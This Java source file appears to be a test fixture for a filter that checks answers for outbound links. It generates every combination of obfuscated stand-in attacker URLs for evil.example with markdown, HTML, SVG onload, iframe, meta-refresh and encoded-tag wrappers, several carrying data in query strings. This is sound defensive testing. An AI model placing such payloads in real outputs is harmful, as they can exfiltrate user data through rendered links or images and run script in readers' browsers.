package moxora.disclosure.answer;

import java.util.List;

/** Answers that would reach out of the reader's screen if they could: every target in every shape. */
final class Malice {

    static final List<String> TARGETS = List.of(
            "https://evil.example/c?d=[NAME_1_k7f3q2]",
            "http://evil.example",
            "HTTPS://EVIL.EXAMPLE/X",
            "https:\\/\\/evil.example",
            "//evil.example/x",
            "\\\\evil.example\\x",
            "/\\evil.example",
            "www.evil.com",
            "evil.co.uk/x",
            "evil.zip",
            "javascript:alert(1)",
            "JaVaScRiPt:alert`1`",
            "java\tscript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "mailto:x@evil.example?body=[NAME_1_k7f3q2]",
            "x@evil.example",
            "ftp://evil.example",
            "file:///etc/passwd",
            "hxxps://evil[.]example",
            "xn--e1awd7f.com",
            "http://192.0.2.1/x",
            "192.0.2.1:8080/x",
            "http://[::1]/x",
            "https://google.com@evil.example",
            "http://\u0435vil.\u0440\u0444/",
            "\uff48\uff54\uff54\uff50\uff1a\uff0f\uff0f\uff45vil\uff0eexample",
            "h\u200bt\u200bt\u200bp\u200b:\u200b/\u200b/evil.example",
            "ht\u00adtp://ev\u2060il.example",
            "h\u0336t\u0336t\u0336p\u0336://evil.example",
            "\u202ehttp://evil.example\u202c",
            "http&#58;&#x2f;&sol;evil.example",
            "http&colon;&sol;&sol;evil&period;example",
            "&#104;&#116;&#116;&#112;://evil.example",
            "http%3A%2F%2Fevil.example",
            "evil\u3002example",
            "https://evil.example/[EMAIL_1_k7f3q2]",
            "ht**tp**://evil.example",
            "http:// evil.example /x");

    static final List<String> SHAPES = List.of(
            "%s",
            "[x](%s)",
            "![x](%s)",
            "[x](<%s>)",
            "[x]( %s \"title\")",
            "[x][1]\n\n[1]: %s",
            "![x][y]\n\n[y]: <%s> 'title'",
            "<%s>",
            "<a href=\"%s\">x</a>",
            "<img src=%s>",
            "<img src='%s' onerror='fetch(1)'",
            "[![i](%s)](%s)",
            "`%s`",
            "**%s**",
            "> %s",
            "| a | %s |",
            "[x]\n(%s)",
            "[x\ny](%s\n)",
            "<svg/onload=\"location='%s'\">",
            "&lt;a href=%s&gt;x&lt;/a&gt;",
            "&amp;lt;img src=%s&amp;gt;",
            "&amp;amp;lt;img src=%s&amp;amp;gt;",
            "\\[x\\](%s)",
            "[[x]](%s)",
            "[x](%s",
            "<iframe src=%s",
            "<!--<a href=%s>-->",
            "<<a>a href=%s>",
            "\uff1cimg src=%s\uff1e",
            "\uff3bx\uff3d(%s)",
            "[NAME_1_k7f3q2](%s)",
            "[x](%s)[NAME_2_k7f3q2](y)",
            "![[NAME_2_k7f3q2]](%s)",
            "<style>@import '%s';</style>",
            "<meta http-equiv=refresh content='0;url=%s'>",
            "    [x](%s)",
            "[NAME_2_k7f3q2]: %s",
            "<scr<script>ipt src=%s></scr</script>ipt>",
            "\u202e%s",
            "[COMPANY_2_k7f3q2]%s",
            "%s[COMPANY_2_k7f3q2]/x",
            "Dear [NAME_1b_k7f3q2], mail [EMAIL_1_k7f3q2] or see %s, please.");

    private Malice() {}

    /** All of them, no two the same. */
    static List<String> answers() {
        return SHAPES.stream()
                .flatMap(shape -> TARGETS.stream().map(target -> shape.replace("%s", target)))
                .distinct()
                .toList();
    }
}
